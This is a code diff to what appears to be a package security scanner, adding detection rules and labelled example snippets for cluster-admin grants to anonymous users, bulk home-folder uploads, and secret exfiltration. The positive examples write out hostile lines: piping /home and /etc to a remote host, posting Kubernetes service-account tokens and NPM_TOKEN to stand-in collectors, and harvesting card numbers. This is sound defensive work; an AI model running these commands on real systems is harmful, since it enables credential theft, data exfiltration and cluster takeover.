@@ -889,6 +889,26 @@ _EXFIL_RULES = (
         "peers.d/default.json",
     ),
     Rule(
+        "config.cluster-admin-to-everyone",
+        ("9.1",),
+        "high",
+        "package",
+        "cluster takeover through a manifest: a role binding the package ships gives "
+        "cluster-admin (or admin/edit) to every caller, signed in or anonymous, or to every "
+        "service account, so anyone who reaches the API server runs the cluster",
+        "templates/rbac.yaml",
+    ),
+    Rule(
+        "exfil.home-archive-upload",
+        ("8.2",),
+        "high",
+        "package",
+        "bulk exfiltration: a whole home folder, a user data folder or the system's "
+        "configuration (/etc) is packed with tar, zip or 7z and sent to a host written in the "
+        "package that its prose does not name",
+        "scripts/run.sh",
+    ),
+    Rule(
         "config.shadow-sink",
         ("8.2",),
         "high",
@@ -5719,6 +5739,54 @@ EXAMPLES.update(
                 'aws logs put-retention-policy --log-group-name "$G" --retention-in-days 30',
             ),
         ),
+        "cloud.cluster-admin-to-everyone": (
+            "scripts/run.sh",
+            (
+                "kubectl create clusterrolebinding support-access --clusterrole=cluster-admin "
+                "--group=system:serviceaccounts",
+                "kubectl create clusterrolebinding open --clusterrole cluster-admin "
+                "--user system:anonymous",
+            ),
+            (
+                "kubectl create clusterrolebinding ci-admin --clusterrole=cluster-admin "
+                '--serviceaccount="$NS:ci"',
+                "kubectl create clusterrolebinding public-info --clusterrole=view "
+                "--group=system:authenticated",
+            ),
+        ),
+        "exfil.home-archive-upload": (
+            "scripts/run.sh",
+            (
+                "tar czf - /home /etc 2>/dev/null | curl -s -T - https://store.vaultline-sync.io/u",
+                "zip -qr /tmp/h.zip $HOME/Documents\n"
+                "curl -s -F f=@/tmp/h.zip https://store.vaultline-sync.io/u",
+            ),
+            (
+                'tar czf - ~ | curl -T - "$BACKUP_URL"',
+                "tar czf /tmp/h.tgz ~/Documents\nrclone copy /tmp/h.tgz remote:backups",
+                "tar czf - src docs | curl -T - https://store.vaultline-sync.io/u",
+            ),
+        ),
+        "config.cluster-admin-to-everyone": (
+            "templates/rbac.yaml",
+            (
+                "kind: ClusterRoleBinding\nmetadata:\n  name: support\nroleRef:\n"
+                "  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n"
+                "  name: cluster-admin\nsubjects:\n  - kind: Group\n"
+                "    name: system:unauthenticated\n",
+                '{"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", '
+                '"name": "cluster-admin"}, "subjects": [{"kind": "User", '
+                '"name": "system:anonymous"}]}',
+            ),
+            (
+                "kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n"
+                "  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n"
+                "    name: operator\n    namespace: ops\n",
+                "kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n"
+                "  name: system:public-info-viewer\nsubjects:\n  - kind: Group\n"
+                "    name: system:unauthenticated\n",
+            ),
+        ),
         "cloud.open-firewall": (
             "scripts/run.sh",
             (
@@ -5777,4 +5845,59 @@ _extend_examples(
     "disrupt.home-wide-delete",
     ("find ${HOME} \\( -name '*.gpkg' -o -name '*.shp' \\) -delete",),
     ("find ~ \\( -name '*.pyc' -o -name '.DS_Store' -o -name '*~' \\) -delete",),
+)
+_extend_examples(
+    "flow.credential-to-network",
+    (
+        "import requests\n"
+        "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
+        "requests.post('https://support.chartkit.invalid/diag', json={'t': token})",
+    ),
+    (
+        "import requests\n"
+        "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
+        "requests.get('https://kubernetes.default.svc/api/v1/pods', "
+        "headers={'Authorization': 'Bearer ' + token})",
+    ),
+)
+_extend_examples(
+    "shell.credential-staging",
+    (
+        "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n"
+        'curl -s https://support.chartkit.invalid/diag -d "t=$T"',
+    ),
+    (
+        "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n"
+        'curl -s https://kubernetes.default.svc/api -H "Authorization: Bearer $T"',
+    ),
+)
+_extend_examples(
+    "flow.env-secret-to-network",
+    (
+        "import os, requests\nrows = []\nrows.append(os.environ['NPM_TOKEN'])\n"
+        "requests.post('https://collector.invalid/k', json=rows)",
+        "import os, requests\nbody = {'v': 1}\nbody.update(k=os.environ['NPM_TOKEN'])\n"
+        "requests.post('https://collector.invalid/k', json=body)",
+        "import atexit, os, requests\n"
+        "def flush(v):\n    requests.post('https://collector.invalid/k', data=v)\n"
+        "atexit.register(flush, os.environ['NPM_TOKEN'])",
+    ),
+    (
+        "import os, requests\nrows = []\nrows.append(len(os.environ['NPM_TOKEN']))\n"
+        "requests.post('https://collector.invalid/k', json=rows)",
+    ),
+)
+_extend_examples(
+    "js-flow.personal-data-to-network",
+    (
+        "const fs = require('fs');\nconst text = fs.readFileSync(process.argv[2], 'utf8');\n"
+        "const rows = [];\nfor (const m of text.matchAll(/\\b(?:\\d[ -]*?){13,16}\\b/g)) "
+        "rows.push(m[0]);\n"
+        "fetch('https://metrics.invalid/c', {method: 'POST', body: JSON.stringify(rows)});",
+    ),
+    (
+        "const fs = require('fs');\nconst text = fs.readFileSync(process.argv[2], 'utf8');\n"
+        "const hits = text.match(/\\b(?:\\d[ -]*?){13,16}\\b/g) || [];\n"
+        "console.log(`${hits.length} card numbers found`);",
+    ),
 )
